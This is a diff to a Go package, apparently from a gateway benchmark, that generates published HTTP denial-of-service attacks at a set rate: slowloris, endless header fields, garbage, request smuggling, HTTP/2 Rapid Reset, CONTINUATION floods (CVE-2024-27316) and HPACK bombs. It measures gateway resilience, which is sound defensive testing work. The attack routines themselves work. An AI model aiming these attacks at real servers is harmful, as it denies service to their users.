@@ -3,16 +3,19 @@
 // Package assault attacks a gateway in the ways that were published, at a constant rate, while
 // somebody else measures what honest clients have of it.
 //
-// It owns what an attack sends. It is a process of its own (Main), which the bench starts at the
-// lowest priority: an attacker on the same processor must not be what honest clients wait for.
+// It owns what an attack sends. It is a process of its own (Main), which the bench starts to run
+// when nobody else wants to: an attacker on the same processor must not be what honest clients
+// wait for. The sink (Drain) takes the same attack without being a gateway, which shows what of it
+// is the machine's.
 //
-// Entry points: Kinds, Main.
+// Entry points: Kinds, Main, Drain.
 //
 // Concurrency: an attack has as many goroutines as it has connections that are not done with,
 // mostOpen at most; all end with the time that it was given.
 package assault
 
 import (
+	"bufio"
 	"bytes"
 	"context"
 	"fmt"
@@ -30,20 +33,23 @@ import (
 
 // Kind is a way to attack. One of it is what the rate counts.
 type Kind struct {
-	Name string
-	one  func(a *attack) error
-	kept bool // attacks follow one another on a connection, as long as the gateway lets them
+	Name  string
+	Part  string // of the work, to be asked for alone
+	HTTP2 bool   // in clear text
+	one   func(a *attack) error
+	kept  bool // attacks follow one another on a connection, as long as the gateway lets them
+	holds bool // connections are held until the attack is over
 }
 
 // Kinds are all.
 var Kinds = []Kind{
-	{Name: "half a head (slowloris)", one: func(a *attack) error { return a.hold("GET / HTTP/1.1\r\nHost: h\r\nX-A: b\r\n") }},
-	{Name: "large fields without an end", one: func(a *attack) error { return a.say("GET / HTTP/1.1\r\nHost: h\r\nX-A: " + large) }},
-	{Name: "garbage", one: func(a *attack) error { return a.say(garbage) }},
-	{Name: "smuggling", one: func(a *attack) error { return a.say(smuggling) }},
-	{Name: "Rapid Reset", one: (*attack).reset, kept: true},
-	{Name: "CONTINUATION without an end", one: (*attack).continuation},
-	{Name: "HPACK bombs", one: (*attack).bomb, kept: true},
+	{Name: "half a head (slowloris)", Part: "slowloris", holds: true, one: func(a *attack) error { return a.hold("GET / HTTP/1.1\r\nHost: h\r\nX-A: b\r\n") }},
+	{Name: "large fields without an end", Part: "endless", one: func(a *attack) error { return a.say("GET / HTTP/1.1\r\nHost: h\r\nX-A: " + large) }},
+	{Name: "garbage", Part: "garbage", one: func(a *attack) error { return a.say(garbage) }},
+	{Name: "smuggling", Part: "smuggling", one: func(a *attack) error { return a.say(smuggling) }},
+	{Name: "Rapid Reset", Part: "reset", HTTP2: true, one: (*attack).reset, kept: true},
+	{Name: "CONTINUATION without an end", Part: "continuation", HTTP2: true, one: (*attack).continuation},
+	{Name: "HPACK bombs", Part: "bombs", HTTP2: true, one: (*attack).bomb, kept: true},
 }
 
 var (
@@ -58,8 +64,10 @@ const (
 	mostOpen = 20_000
 	// lanes is how many connections have attacks that follow one another.
 	lanes = 8
-	// step is how often what is due is begun.
-	step = 5 * time.Millisecond
+	// step is how often what is due is begun, and most how many then: attackers do not wait for
+	// one another, so that they come evenly, and what one was late by does not come at once.
+	step = 250 * time.Microsecond
+	most = 4
 	// patience is for an answer, or for being cut off.
 	patience = 2 * time.Second
 )
@@ -69,6 +77,7 @@ type attack struct {
 	ctx    context.Context
 	to     string
 	conn   net.Conn
+	out    *bufio.Writer
 	framer *http2.Framer
 	fields *hpack.Encoder
 	block  bytes.Buffer
@@ -112,7 +121,8 @@ func run(ctx context.Context, k *Kind, to string, rate int) (made int) {
 			return made
 		case <-pace.C:
 		}
-		for wanted := int(time.Since(began).Seconds() * float64(rate)); made < wanted && ctx.Err() == nil; made++ {
+		wanted := min(int(time.Since(began).Seconds()*float64(rate)), made+most)
+		for ; made < wanted && ctx.Err() == nil; made++ {
 			if k.kept && !put(due) || !k.kept && !put(open) {
 				break
 			}
@@ -211,11 +221,20 @@ func (a *attack) begin() error {
 		return err
 	}
 	go io.Copy(io.Discard, a.conn) // ends with the connection
-	a.framer, a.fields, a.stream = http2.NewFramer(a.conn, nil), hpack.NewEncoder(&a.block), 1
-	if _, err := io.WriteString(a.conn, http2.ClientPreface); err != nil {
+	a.out = bufio.NewWriterSize(a.conn, 16<<10)
+	a.framer, a.fields, a.stream = http2.NewFramer(a.out, nil), hpack.NewEncoder(&a.block), 1
+	if _, err := a.out.WriteString(http2.ClientPreface); err != nil {
 		return err
 	}
 	return a.framer.WriteSettings()
+}
+
+// send sends what was written: together, as an attacker has better to do than to send frame by frame.
+func (a *attack) send(err error) error {
+	if err != nil {
+		return err
+	}
+	return a.out.Flush()
 }
 
 // head returns the fields of a request, and more.
@@ -246,7 +265,7 @@ func (a *attack) reset() error {
 	if err != nil {
 		return err
 	}
-	return a.framer.WriteRSTStream(stream, http2.ErrCodeCancel)
+	return a.send(a.framer.WriteRSTStream(stream, http2.ErrCodeCancel))
 }
 
 // continuation goes on with a field block (CVE-2024-27316).
@@ -261,7 +280,7 @@ func (a *attack) continuation() error {
 		}
 		err = a.framer.WriteContinuation(stream, false, nil)
 	}
-	return err
+	return a.send(err)
 }
 
 // bomb sends few octets that stand for many: a field of nearly all of the table, again and again.
@@ -271,5 +290,5 @@ func (a *attack) bomb() error {
 	}
 	const newest = "\xbe" // RFC 7541 §2.3.3: the entry that was made last
 	_, err := a.request(append(a.head("x", large[:3900]), strings.Repeat(newest, 10_000)...), true)
-	return err
+	return a.send(err)
 }
